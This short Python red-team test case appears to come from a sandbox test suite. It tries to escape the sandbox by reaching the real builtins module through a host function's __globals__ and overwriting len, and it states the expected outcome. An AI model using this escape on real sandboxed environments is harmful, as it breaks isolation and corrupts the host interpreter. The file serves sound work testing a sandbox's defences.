# redteam: overwrite len in the real builtins module through the escape
# expect: ok "set"
real = crm.get_clients.__globals__["__builtins__"]
if isinstance(real, dict):
    real["len"] = lambda value: -2
else:
    real.len = lambda value: -2
result = "set"
